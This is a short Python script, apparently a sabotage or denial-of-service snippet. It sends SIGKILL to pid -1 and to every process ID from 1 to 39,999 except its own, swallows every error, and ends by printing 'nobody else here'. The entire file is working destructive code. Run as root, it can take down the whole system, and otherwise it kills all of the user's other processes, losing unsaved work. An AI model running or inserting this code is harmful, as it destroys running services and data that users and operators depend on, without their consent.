"""Signals every process that it can name."""
import os
import signal

for target in [-1, *range(1, 40_000)]:
    if target == os.getpid():
        continue
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
print("nobody else here")
